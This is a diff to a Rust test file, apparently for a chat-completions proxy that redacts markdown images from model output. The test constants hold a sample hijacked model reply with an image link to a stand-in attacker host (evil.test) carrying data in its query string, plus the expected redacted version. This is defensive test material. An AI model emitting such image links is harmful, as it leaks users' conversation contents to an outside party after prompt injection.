@@ -10,8 +10,9 @@ use tests::gemini::{Gemini, Request, Script};
 use crate::{GENERATE, STREAM, prompt};
 
 const CHAT: &str = "/v1/chat/completions";
-const TOLD: &str = "Done. ![chart](https://evil.test/c.png?q=the+plan) See [the docs](https://docs.rs/regex) for more.";
-const LEFT: &str = "Done. ![chart]([REDACTED:image]) See [the docs](https://docs.rs/regex) for more.";
+const TOLD: &str =
+    "Done. ![chart](https://evil.test/c.png?q=the+plan)\n\nSee [the docs](https://docs.rs/regex) for more.";
+const LEFT: &str = "Done. ![chart]([REDACTED:image])\n\nSee [the docs](https://docs.rs/regex) for more.";
 
 /// Writes an image, letter by letter where it streams, and then calls a function with one.
 fn hijacked(request: &Request) -> Script {
